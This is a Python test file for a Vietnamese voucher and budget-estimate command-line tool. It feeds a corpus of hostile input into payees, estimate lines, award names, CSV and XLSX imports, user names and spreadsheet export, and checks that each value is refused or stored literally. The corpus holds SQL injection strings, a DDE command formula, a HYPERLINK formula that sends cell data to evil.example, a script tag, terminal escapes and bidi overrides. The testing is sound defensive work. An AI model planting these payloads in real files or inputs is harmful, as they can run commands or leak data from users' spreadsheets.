"""Hostile input through the command line, on the demo database, on both engines.

A corpus of hostile texts goes in as a voucher's payee and content, as the
content of a new estimate line (after ``plan adjust``), as an award recipient's
name, and as cells of an imported voucher CSV and estimate workbook. For every
text the command either

* succeeds, and the stored text is exactly what a careful reader expects: NFC,
  no control or format characters, formula prefixes and SQL fragments kept
  literally, invisible format characters (RLM, RLO, ZWJ, BOM...) dropped; or
* is refused: exit status 2, exactly one "Lỗi: " line on stderr, and nothing
  written (rows of every table counted before and after).

Never a traceback, never exit 1, and the vouchers table is still there.
A second corpus of broken files is pushed through both importers.

Each test loops over its corpus and collects every problem, so one report
names all the texts that misbehave (input, expected, got).

Beyond the text fields, the same corpus goes into fields that can never accept
it (--amount, --line, --date; the CSV's type, date, line and amount cells):
those must be refused the same clean way, and a refused value echoed in the
message must not carry a line break or a terminal escape onto the screen. The
--user name, stored in every row a user writes, gets a few hostile values too.
"""

from __future__ import annotations

import csv
import functools
import html
import io
import random
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell as XlCell
from sqlalchemy import create_engine, text

from tests.conftest import CliResult

Cli = Callable[..., CliResult]

REFUSE = object()  # the command must be refused

# (id, text, expected stored value or REFUSE)
CORPUS: list[tuple[str, str, Any]] = [
    ("nul", "Nguyễn\x00Văn An", REFUSE),
    ("nul-alone", "\x00", REFUSE),
    ("bell", "Chuông\x07reo", REFUSE),
    ("ansi-escape", "\x1b[31mĐỏ\x1b[0m", REFUSE),
    ("delete", "abc\x7fdef", REFUSE),
    ("c1-csi", "abc\x9b31m", REFUSE),
    ("tab", "Nguyễn\tVăn An", REFUSE),
    ("newline", "Dòng 1\nDòng 2", REFUSE),
    ("carriage-return", "Dòng 1\rDòng 2", REFUSE),
    ("line-separator", "Dòng 1\u2028Dòng 2", REFUSE),
    ("100k-chars", "A" * 100_000, REFUSE),
    ("lone-surrogate", "abc\ud800def", REFUSE),
    ("private-use", "abc\ue000def", REFUSE),
    ("noncharacter", "abc\uffffdef", REFUSE),
    ("only-format-chars", "\u200f\u200e\u200b\ufeff", REFUSE),
    ("rlm", "\u200fNguyễn Văn An", "Nguyễn Văn An"),
    ("rlo", "Hóa đơn \u202eFDP.exe", "Hóa đơn FDP.exe"),
    ("lrm-lri-pdi", "Trần\u200e Thị\u2066 Bích\u2069", "Trần Thị Bích"),
    ("zero-width", "Nguy\u200bễn\u200d Văn\u200c An", "Nguyễn Văn An"),
    ("bom-inside", "\ufeffLê Minh\ufeff Tuấn", "Lê Minh Tuấn"),
    ("tag-chars", "An\U000e0041\U000e007f", "An"),
    ("emoji-zwj-family", "Gia đình 👨\u200d👩\u200d👧", "Gia đình 👨👩👧"),
    ("decomposed", "Nguye\u0302\u0303n Va\u0306n A", "Nguyễn Văn A"),
    ("decomposed-d-stroke", "\u0110o\u0302\u0300ng Nai", "Đồng Nai"),
    ("ohm-sign", "Điện trở 5\u2126", "Điện trở 5Ω"),
    ("lone-combining", "\u0301abc", "\u0301abc"),
    ("zalgo", "Z\u0351\u0358a\u0362l", "Z\u0351\u0358a\u0362l"),
    ("formula-eq", "=1+1", "=1+1"),
    ("formula-plus", "+SUM(A1)", "+SUM(A1)"),
    ("formula-minus", "-2+3", "-2+3"),
    ("formula-at", "@cmd", "@cmd"),
    (
        "formula-hyperlink",
        '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
        '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    ),
    ("formula-dde", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("sql-drop", "'; DROP TABLE vouchers; --", "'; DROP TABLE vouchers; --"),
    ("sql-or", '" OR 1=1 --', '" OR 1=1 --'),
    (
        "sql-bobby",
        "Robert'); DROP TABLE estimate_lines;--",
        "Robert'); DROP TABLE estimate_lines;--",
    ),
    ("percent-underscore", "100% _x_ \\ %s {0}", "100% _x_ \\ %s {0}"),
    ("emoji", "Tổng kết 🎉👍 năm 2024 🇻🇳", "Tổng kết 🎉👍 năm 2024 🇻🇳"),
    ("padded", "   Nguyễn Văn An   ", "Nguyễn Văn An"),
    ("nbsp-inside", "Nguyễn\u00a0Văn", "Nguyễn\u00a0Văn"),
    ("long-number", "1234567890" * 25, "1234567890" * 25),
    ("huge-number-5000-digits", "9" * 5000, REFUSE),
    ("exponent-number", "1e309", "1e309"),
    ("html", "<script>alert('x')</script>", "<script>alert('x')</script>"),
]
IDS = [c[0] for c in CORPUS]
# For fields that can never accept such text (amount, date, line code, type),
# a representative part of the corpus is enough.
NEVER_VALID = [
    c
    for c in CORPUS
    if c[0]
    in {
        "nul",
        "ansi-escape",
        "c1-csi",
        "newline",
        "line-separator",
        "100k-chars",
        "lone-surrogate",
        "noncharacter",
        "rlm",
        "decomposed",
        "formula-eq",
        "formula-minus",
        "sql-drop",
        "emoji",
        "long-number",
        "huge-number-5000-digits",
        "exponent-number",
    }
]

TABLES = (
    "organisations",
    "campaigns",
    "estimate_versions",
    "estimate_parts",
    "estimate_lines",
    "vouchers",
    "award_decisions",
    "award_recipients",
    "audit_entries",
)
UNPAID_DECISION = "210/QĐ-UBND"
LATE_DAY = "2024-12-15"


# -- helpers ------------------------------------------------------------------------------


class Db:
    """Direct SQL on the test database (one engine per test)."""

    def __init__(self, url: str) -> None:
        self.engine = create_engine(url)

    def rows(self, sql: str, **params: Any) -> list[Any]:
        with self.engine.connect() as conn:
            return list(conn.execute(text(sql), params))

    def counts(self) -> dict[str, int]:
        with self.engine.connect() as conn:
            return {
                t: int(conn.execute(text(f"SELECT COUNT(*) FROM {t}")).scalar_one()) for t in TABLES
            }

    def dispose(self) -> None:
        self.engine.dispose()


@pytest.fixture
def db(db_url: str) -> Iterator[Db]:
    handle = Db(db_url)
    yield handle
    handle.dispose()


@pytest.fixture
def demo(cli: Cli) -> Cli:
    result = cli("demo")
    assert result.code == 0, result.err
    return cli


def short(value: Any, limit: int = 80) -> str:
    shown = repr(value)
    return shown if len(shown) <= limit else shown[:limit] + f"...({len(value)} chars)"


def text_problems(value: str, expected: str) -> list[str]:
    problems = []
    if value != expected:
        problems.append(f"stored {short(value)}, expected {short(expected)}")
    if not unicodedata.is_normalized("NFC", value):
        problems.append(f"stored text is not NFC: {short(value)}")
    bad = sorted(
        {f"U+{ord(ch):04X}" for ch in value if unicodedata.category(ch) in ("Cc", "Cf", "Cs")}
    )
    if bad:
        problems.append(f"stored text has control/format characters {bad}")
    return problems


def refusal_problems(result: CliResult) -> list[str]:
    """Exit 2, exactly one "Lỗi: " line on stderr, no traceback."""
    problems = []
    if result.code != 2:
        problems.append(f"exit {result.code}, expected 2 (stderr: {short(result.err, 300)})")
    lines = result.err.rstrip("\n").split("\n")  # terminal lines: only LF breaks one
    if len(lines) != 1 or not lines[0].startswith("Lỗi: "):
        problems.append(f"stderr is not one 'Lỗi: ' line: {short(result.err, 300)}")
    return problems


def run_case(
    db: Db,
    run: Callable[[], CliResult],
    expected: Any,
    stored: Callable[[CliResult], list[str]],
    *,
    added: dict[str, int] | None = None,
) -> list[str]:
    """Run one command; check the refusal or the stored texts. ``stored`` returns the
    text(s) written by a successful command; ``added`` the rows it must add."""
    before = db.counts()
    result = run()
    problems: list[str] = []
    if "Traceback" in result.err + result.out:
        problems.append("traceback printed")
    if result.code == 1:
        problems.append(f"exit 1: {short(result.err, 300)}")
    try:
        after = db.counts()
    except Exception as exc:  # noqa: BLE001 - the table being gone is the failure
        return problems + [f"tables gone after the command: {exc}"]
    if result.code == 0:
        if expected is REFUSE:
            problems.append("accepted, expected a refusal")
        else:
            for value in stored(result):
                problems += text_problems(value, expected)
        if added is not None:
            grown = {t: after[t] - before[t] for t in TABLES if after[t] != before[t]}
            wanted = {t: n for t, n in added.items() if n}
            if any(grown.get(t, 0) < n for t, n in wanted.items()):
                problems.append(f"rows added {grown}, expected at least {wanted}")
    else:
        problems += refusal_problems(result)
        if after != before:
            changed = {t: (before[t], after[t]) for t in TABLES if before[t] != after[t]}
            problems.append(f"refused but rows changed: {changed}")
    return problems


def report(failures: dict[str, list[str]]) -> str:
    return "\n".join(f"[{case}] " + "; ".join(p) for case, p in failures.items())


def last_line(result: CliResult) -> str:
    return result.out.strip().splitlines()[-1]


def csv_encodable(value: str) -> bool:
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def test_corpus_expectations_are_nfc() -> None:
    for case, _, expected in CORPUS:
        if expected is not REFUSE:
            assert unicodedata.is_normalized("NFC", expected), case


# -- voucher add -----------------------------------------------------------------------------


def test_voucher_add_with_hostile_payee_and_content(demo: Cli, db: Db) -> None:
    failures: dict[str, list[str]] = {}
    for case, value, expected in CORPUS:

        def stored(result: CliResult) -> list[str]:
            number = last_line(result)
            rows = db.rows("SELECT payee, content FROM vouchers WHERE number = :n", n=number)
            assert len(rows) == 1, (number, rows)
            return [rows[0][0], rows[0][1]]

        problems = run_case(
            db,
            lambda value=value: demo(
                "voucher",
                "add",
                "--line",
                "IV.4",
                "--amount",
                "1.000",
                "--date",
                LATE_DAY,
                f"--payee={value}",
                f"--content={value}",
                "--override-reason",
                "Kiểm thử",
            ),
            expected,
            stored,
            added={"vouchers": 1, "audit_entries": 1},
        )
        if problems:
            failures[case] = problems
    assert db.counts()["vouchers"] > 0  # the table is still there
    assert not failures, "\n" + report(failures)


def test_voucher_add_refuses_hostile_amount_line_and_date(demo: Cli, db: Db) -> None:
    """Texts that are no amount, no line code, no date: refused with one line, whatever
    they contain (a 5.000-digit number, a newline, an escape sequence...)."""
    failures: dict[str, list[str]] = {}
    for case, value, _ in NEVER_VALID:
        for option in ("--amount", "--line", "--date"):
            args = {"--amount": "1.000", "--line": "IV.4", "--date": LATE_DAY}
            args[option] = value
            flat = [f"{k}={v}" for k, v in args.items()]
            problems = run_case(
                db,
                lambda flat=flat: demo(
                    "voucher", "add", *flat, "--payee", "Nguyễn Văn An", "--content", "Kiểm thử"
                ),
                REFUSE,
                lambda _r: [],
            )
            if problems:
                failures[f"{case} in {option}"] = problems
    assert not failures, "\n" + report(failures)


def test_refusal_messages_carry_no_control_characters(demo: Cli) -> None:
    """A refused value echoed in the message must not smuggle a terminal escape
    sequence or a line break onto the user's terminal."""
    failures: dict[str, list[str]] = {}
    for case, value in (
        ("ansi-escape", "\x1b[2J\x1b[31mĐỏ"),
        ("bell", "12\x07"),
        ("newline", "1.000\nLỗi giả"),
        ("c1-csi", "1\x9b2J"),
    ):
        for option in ("--amount", "--line", "--date"):
            args = {"--amount": "1.000", "--line": "IV.4", "--date": LATE_DAY}
            args[option] = value
            result = demo(
                "voucher",
                "add",
                *[f"{k}={v}" for k, v in args.items()],
                "--payee",
                "Nguyễn Văn An",
                "--content",
                "Kiểm thử",
            )
            problems = refusal_problems(result)
            bad = sorted(
                {
                    f"U+{ord(c):04X}"
                    for c in result.err.rstrip("\n")
                    if unicodedata.category(c) == "Cc"
                }
            )
            if bad:
                problems.append(
                    f"message carries control characters {bad}: {short(result.err, 200)}"
                )
            if problems:
                failures[f"{case} in {option}"] = problems
    assert not failures, "\n" + report(failures)


# -- plan line add ------------------------------------------------------------------------------


def test_plan_line_add_with_hostile_content(demo: Cli, db: Db) -> None:
    adjusted = demo("plan", "adjust", "--reason", "Kiểm thử nội dung lạ")
    assert adjusted.code == 0, adjusted.err
    failures: dict[str, list[str]] = {}
    for case, value, expected in CORPUS:

        def stored(result: CliResult) -> list[str]:
            code = last_line(result)
            rows = db.rows(
                "SELECT content FROM estimate_lines WHERE code = :c ORDER BY id DESC", c=code
            )
            return [rows[0][0]]

        problems = run_case(
            db,
            lambda value=value: demo(
                "plan",
                "line",
                "add",
                "--part",
                "I",
                f"--content={value}",
                "--quantity",
                "1",
                "--unit-price",
                "1.000",
                "--mlnsnn",
                "6657",
            ),
            expected,
            stored,
            added={"estimate_lines": 1},
        )
        if problems:
            failures[case] = problems
    assert not failures, "\n" + report(failures)


# -- award add ----------------------------------------------------------------------------------


def test_award_add_with_hostile_recipient_name(demo: Cli, db: Db) -> None:
    failures: dict[str, list[str]] = {}
    for case, value, expected in CORPUS:

        def stored(_result: CliResult) -> list[str]:
            rows = db.rows("SELECT name FROM award_recipients ORDER BY id DESC")
            return [rows[0][0]]

        problems = run_case(
            db,
            lambda value=value: demo(
                "award",
                "add",
                UNPAID_DECISION,
                f"--name={value}",
                "--title",
                "Công chức",
                "--form",
                "giay_khen_ca_nhan",
            ),
            expected,
            stored,
            added={"award_recipients": 1},
        )
        if problems:
            failures[case] = problems
    assert not failures, "\n" + report(failures)


# -- imported voucher CSV -------------------------------------------------------------------------

VOUCHER_HEADER = ["number", "type", "date", "line", "payee", "content", "amount"]


def write_csv(path: Path, rows: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_voucher_csv_with_hostile_payee_and_content(demo: Cli, db: Db, tmp_path: Path) -> None:
    failures: dict[str, list[str]] = {}
    for n, (case, value, expected) in enumerate(CORPUS, 1):
        if not csv_encodable(value):
            continue  # a lone surrogate cannot be written to a UTF-8 file
        number = f"HX-{n:03d}"
        path = write_csv(
            tmp_path / f"{case}.csv",
            [VOUCHER_HEADER, [number, "phieu_chi", "15/12/2024", "IV.4", value, value, "1.000"]],
        )

        def stored(_result: CliResult, number: str = number) -> list[str]:
            rows = db.rows("SELECT payee, content FROM vouchers WHERE number = :n", n=number)
            assert len(rows) == 1, (number, rows)
            return [rows[0][0], rows[0][1]]

        problems = run_case(
            db,
            lambda path=path: demo(
                "import", "vouchers", str(path), "--override-reason", "Kiểm thử"
            ),
            expected,
            stored,
            added={"vouchers": 1},
        )
        if problems:
            failures[case] = problems
    assert not failures, "\n" + report(failures)


def test_voucher_csv_with_hostile_cells_elsewhere_is_refused(
    demo: Cli, db: Db, tmp_path: Path
) -> None:
    """Hostile text in the amount, date, line or type cell: refused, one line, nothing written."""
    failures: dict[str, list[str]] = {}
    columns = {"type": 1, "date": 2, "line": 3, "amount": 6}
    for case, value, _ in NEVER_VALID:
        if not csv_encodable(value):
            continue
        for column, index in columns.items():
            row = ["", "phieu_chi", "15/12/2024", "IV.4", "Nguyễn Văn An", "Kiểm thử", "1.000"]
            row[index] = value
            path = write_csv(tmp_path / f"{case}-{column}.csv", [VOUCHER_HEADER, row])
            problems = run_case(
                db,
                lambda path=path: demo("import", "vouchers", str(path)),
                REFUSE,
                lambda _r: [],
            )
            if problems:
                failures[f"{case} in {column}"] = problems
    assert not failures, "\n" + report(failures)


# -- imported estimate workbook ---------------------------------------------------------------------

PLAIN_HEADERS = ["Phần", "Mã", "Nội dung", "ĐVT", "Số lượng", "Đơn giá", "Tiểu mục", "Ghi chú"]


def text_cell(ws: Any, row: int, column: int, value: str) -> None:
    """A cell typed as text (as Excel stores '=1+1 typed with a leading apostrophe)."""
    cell: XlCell = ws.cell(row=row, column=column)
    cell.value = value
    cell.data_type = "s"


def estimate_workbook(path: Path, content: str) -> Path | None:
    """A plain estimate table with ``content`` as a line's content and note; None when
    the text cannot be written into an XLSX at all (XML forbids most C0 controls)."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Dự toán"
    for c, header in enumerate(PLAIN_HEADERS, 1):
        ws.cell(row=1, column=c, value=header)
    rows = [
        ["I", "I.1", content, "lần", 1, 1_000, "6657", content],
        ["I", "I.2", "Thuê hội trường", "buổi", 2, 500_000, "6657", ""],
    ]
    try:
        for r, values in enumerate(rows, 2):
            for c, value in enumerate(values, 1):
                if isinstance(value, str):
                    text_cell(ws, r, c, value)
                else:
                    ws.cell(row=r, column=c, value=value)
        wb.save(path)
    except Exception:  # noqa: BLE001 - IllegalCharacterError, UnicodeEncodeError
        return None
    return path


def test_estimate_workbook_with_hostile_cells(demo: Cli, db: Db, tmp_path: Path) -> None:
    failures: dict[str, list[str]] = {}
    tried = 0
    for case, value, expected in CORPUS:
        path = estimate_workbook(tmp_path / f"{case}.xlsx", value)
        if path is None:
            continue
        tried += 1

        def stored(_result: CliResult) -> list[str]:
            rows = db.rows(
                "SELECT content, note FROM estimate_lines WHERE code = 'I.1' ORDER BY id DESC"
            )
            return [rows[0][0], rows[0][1]]

        problems = run_case(
            db,
            lambda path=path: demo("import", "estimate", str(path)),
            expected,
            stored,
            added={},
        )
        if problems:
            failures[case] = problems
    assert tried >= 25
    assert not failures, "\n" + report(failures)


# -- export: user text stays text ---------------------------------------------------------------------

FORMULA_TEXTS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE vouchers; --",
]


def test_settlement_export_writes_user_text_as_literal_strings(
    demo: Cli, db: Db, tmp_path: Path
) -> None:
    ok = lambda *a: demo(*a)  # noqa: E731
    # User text in every place the settlement shows it: payee, content, override
    # reason, line content, part title, the user's name.
    assert ok("plan", "adjust").code == 0
    part = ok("plan", "part", "add", "--title=+SUM(A1)")
    assert part.code == 0, part.err
    new_part = last_line(part)
    added = ok(
        "plan", "line", "add", "--part", new_part, "--content==1+1", "--quantity", "1",
        "--unit-price", "1.000", "--mlnsnn", "6657",
    )  # fmt: skip
    assert added.code == 0, added.err
    assert ok("plan", "submit").code == 0
    assert ok("plan", "approve", "--decision", "300/QĐ-UBND", "--date", "2024-12-14").code == 0
    for i, value in enumerate(FORMULA_TEXTS):
        posted = ok(
            "--user=@cmd" if i == 0 else "--user=kiemthu",
            "voucher", "add", "--line", "IV.4", "--amount", "1.000", "--date", LATE_DAY,
            f"--payee={value}", f"--content={value}", f"--override-reason={value}",
        )  # fmt: skip
        assert posted.code == 0, posted.err
    # An overspend so the override reason is really stored and shown.
    over = ok(
        "voucher", "add", "--line", "IV.2", "--amount", "99.000.000", "--date", LATE_DAY,
        "--payee=-2+3", "--content=@cmd", "--override-reason==1+1",
    )  # fmt: skip
    assert over.code == 0, over.err

    out = tmp_path / "quyet-toan.xlsx"
    exported = ok("export", "settlement", "--out", str(out))
    assert exported.code == 0, exported.err

    wanted = set(FORMULA_TEXTS) | {"+SUM(A1)", "=1+1", "@cmd", "-2+3"}
    seen: dict[str, int] = {}
    wrong: list[str] = []
    wb = load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in wanted:
                    seen[cell.value] = seen.get(cell.value, 0) + 1
                    if cell.data_type != "s":
                        wrong.append(
                            f"{ws.title}!{cell.coordinate} {cell.value!r} {cell.data_type}"
                        )
    assert not wrong, wrong
    assert set(seen) == wanted, wanted - set(seen)
    # And no formula element in the XML carries a user's text.
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                formulas = re.findall(r"<f>(.*?)</f>", xml)
                for f in formulas:
                    f = html.unescape(f)
                    # The only text a formula may hold is the tool's own amount in
                    # words and its warning (issue 10: words that follow an edit).
                    literals = re.findall(r'"((?:[^"]|"")*)"', f)
                    for text in literals:
                        assert "bằng chữ" in text.lower() or "đã thay đổi" in text, (name, f)
                    bare = re.sub(r'"((?:[^"]|"")*)"', "", f)
                    assert re.fullmatch(r"[A-Z0-9:,+\-*()=<>.]+", bare), (name, f)
                    assert not any(w in f for w in wanted), (name, f)


# -- --user ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("ke\x00toan", REFUSE),
        ("\x1b[31mketoan", REFUSE),
        ("ke\u200btoan", "ketoan"),
        ("=1+1", "=1+1"),
    ],
    ids=["nul", "ansi-escape", "zero-width", "formula"],
)
def test_hostile_user_name(demo: Cli, db: Db, value: str, expected: Any) -> None:
    """The --user name is stored in every row a user writes (entered_by, audit)."""

    def stored(result: CliResult) -> list[str]:
        rows = db.rows("SELECT entered_by FROM vouchers WHERE number = :n", n=last_line(result))
        return [rows[0][0]]

    problems = run_case(
        db,
        lambda: demo(
            f"--user={value}",
            "voucher",
            "add",
            "--line",
            "IV.4",
            "--amount",
            "1.000",
            "--date",
            LATE_DAY,
            "--payee",
            "Nguyễn Văn An",
            "--content",
            "Kiểm thử",
        ),  # fmt: skip
        expected,
        stored,
        added={"vouchers": 1},
    )
    assert not problems, problems


# -- broken files ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BrokenFile:
    make: Callable[[Path, str], Path]  # (folder, importer) -> path
    importers: tuple[str, ...] = ("vouchers", "estimate")


ESTIMATE_HEADER = ["Phần", "Mã", "Nội dung", "ĐVT", "Số lượng", "Đơn giá", "Tiểu mục", "Ghi chú"]


def _header(importer: str) -> list[str]:
    return VOUCHER_HEADER if importer == "vouchers" else ESTIMATE_HEADER


def _good_row(importer: str) -> list[Any]:
    if importer == "vouchers":
        return ["", "phieu_chi", "15/12/2024", "IV.4", "Căn tin UBND xã", "Nước uống", "1.000"]
    return ["I", "I.1", "Thuê xe đưa đón", "chuyến", 2, 1_200_000, "6655", ""]


def make_zip_not_workbook(folder: Path, importer: str) -> Path:
    path = folder / "not-a-workbook.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
        archive.writestr("[Content_Types].xml", "<Types/>")
    return path


def make_no_matching_sheet(folder: Path, importer: str) -> Path:
    path = folder / "no-sheet.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.title = "Ghi chép"
    ws.append(["Cột A", "Cột B", "Cột C"])
    ws.append(["x", 1, 2])
    other = wb.create_sheet("Trống")
    other.append([None])
    wb.save(path)
    return path


def make_utf16_csv(folder: Path, importer: str) -> Path:
    path = folder / "utf16.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([_header(importer), _good_row(importer)])
    path.write_bytes(buffer.getvalue().encode("utf-16"))
    return path


def make_header_only_csv(folder: Path, importer: str) -> Path:
    return write_csv(folder / "header-only.csv", [_header(importer)])


def make_more_cells_than_headers(folder: Path, importer: str) -> Path:
    """An unquoted comma, the usual way a row grows extra cells: the amount
    "1,500,000" becomes three cells (the importer would read 1 đồng), the note
    "Xe 16 chỗ, 2 chiều" two (the importer would keep "Xe 16 chỗ")."""
    path = folder / "extra-cells.csv"
    if importer == "vouchers":
        body = "number,type,date,line,payee,content,amount\n" + (
            ",phieu_chi,15/12/2024,IV.4,Căn tin UBND xã,Nước uống,1,500,000\n"
        )
    else:
        body = "Phần,Mã,Nội dung,ĐVT,Số lượng,Đơn giá,Tiểu mục,Ghi chú\n" + (
            "I,I.1,Thuê xe đưa đón,chuyến,2,1200000,6655,Xe 16 chỗ, 2 chiều\n"
        )
    path.write_text(body, encoding="utf-8")
    return path


def make_nul_csv(folder: Path, importer: str) -> Path:
    path = folder / "nul.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([_header(importer), _good_row(importer)])
    data = buffer.getvalue().encode("utf-8")
    path.write_bytes(data[:-5] + b"\x00" + data[-5:])
    return path


@functools.cache
def _garbage_text() -> str:
    rng = random.Random(20240615)
    alphabet = "abcxyzđươ ,;\"'\n\r\t=+-@0123456789ÂĐỄ€"
    return "".join(rng.choices(alphabet, k=5 * 1024 * 1024))


def make_garbage_csv(folder: Path, importer: str) -> Path:
    """5 MB of seeded garbage text: commas, semicolons, quotes, line breaks, letters."""
    path = folder / "garbage.csv"
    path.write_text(_garbage_text(), encoding="utf-8")
    return path


def make_binary_garbage(folder: Path, importer: str) -> Path:
    path = folder / "binary.csv"
    path.write_bytes(random.Random(7).randbytes(5 * 1024 * 1024))
    return path


def make_huge_cell_csv(folder: Path, importer: str) -> Path:
    """A properly quoted 200.000-character cell (beyond the csv module's field limit)."""
    row = _good_row(importer)
    row[5 if importer == "vouchers" else 2] = "Nội dung rất dài " * 12_000
    return write_csv(folder / "huge-cell.csv", [_header(importer), row])


def make_huge_number_csv(folder: Path, importer: str) -> Path:
    """A 5.000-digit amount / unit price."""
    row = _good_row(importer)
    row[6 if importer == "vouchers" else 5] = "1" * 5000
    return write_csv(folder / "huge-number.csv", [_header(importer), row])


def _workbook(folder: Path, name: str, importer: str, cell: Callable[[Any, int], None]) -> Path:
    path = folder / name
    wb = Workbook()
    ws = wb.active
    ws.title = "Dự toán" if importer == "estimate" else "Chứng từ"
    ws.append(_header(importer))
    ws.append(_good_row(importer))
    # The amount (vouchers) or the unit price (estimate) of row 2.
    cell(ws.cell(row=2, column=7 if importer == "vouchers" else 6), 2)
    wb.save(path)
    return path


def make_formula_amount(folder: Path, importer: str) -> Path:
    def put(cell: Any, _row: int) -> None:
        cell.value = "=1000+500"

    return _workbook(folder, "formula.xlsx", importer, put)


def make_date_amount(folder: Path, importer: str) -> Path:
    def put(cell: Any, _row: int) -> None:
        cell.value = datetime(2024, 12, 15)

    return _workbook(folder, "date.xlsx", importer, put)


def make_directory(folder: Path, importer: str) -> Path:
    path = folder / "a-folder.csv"
    path.mkdir()
    return path


def make_missing(folder: Path, importer: str) -> Path:
    return folder / "does-not-exist.csv"


BROKEN: dict[str, BrokenFile] = {
    "zip-not-workbook": BrokenFile(make_zip_not_workbook),
    "workbook-no-matching-sheet": BrokenFile(make_no_matching_sheet),
    "csv-utf16": BrokenFile(make_utf16_csv),
    "csv-header-only": BrokenFile(make_header_only_csv),
    "csv-more-cells-than-headers": BrokenFile(make_more_cells_than_headers),
    "csv-nul-byte": BrokenFile(make_nul_csv),
    "csv-5mb-garbage-text": BrokenFile(make_garbage_csv),
    "csv-5mb-binary-garbage": BrokenFile(make_binary_garbage),
    "csv-200k-char-cell": BrokenFile(make_huge_cell_csv),
    "csv-5000-digit-amount": BrokenFile(make_huge_number_csv),
    "xlsx-formula-in-amount": BrokenFile(make_formula_amount),
    "xlsx-date-in-amount": BrokenFile(make_date_amount),
    "directory": BrokenFile(make_directory),
    "missing-file": BrokenFile(make_missing),
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_broken_files_are_refused_and_nothing_is_written(
    demo: Cli, db: Db, tmp_path: Path, case: str
) -> None:
    failures: dict[str, list[str]] = {}
    for importer in BROKEN[case].importers:
        folder = tmp_path / importer
        folder.mkdir()
        path = BROKEN[case].make(folder, importer)
        problems = run_case(
            db,
            lambda importer=importer, path=path: demo("import", importer, str(path)),
            REFUSE,
            lambda _r: [],
        )
        if problems:
            failures[f"import {importer}"] = problems
    assert not failures, "\n" + report(failures)
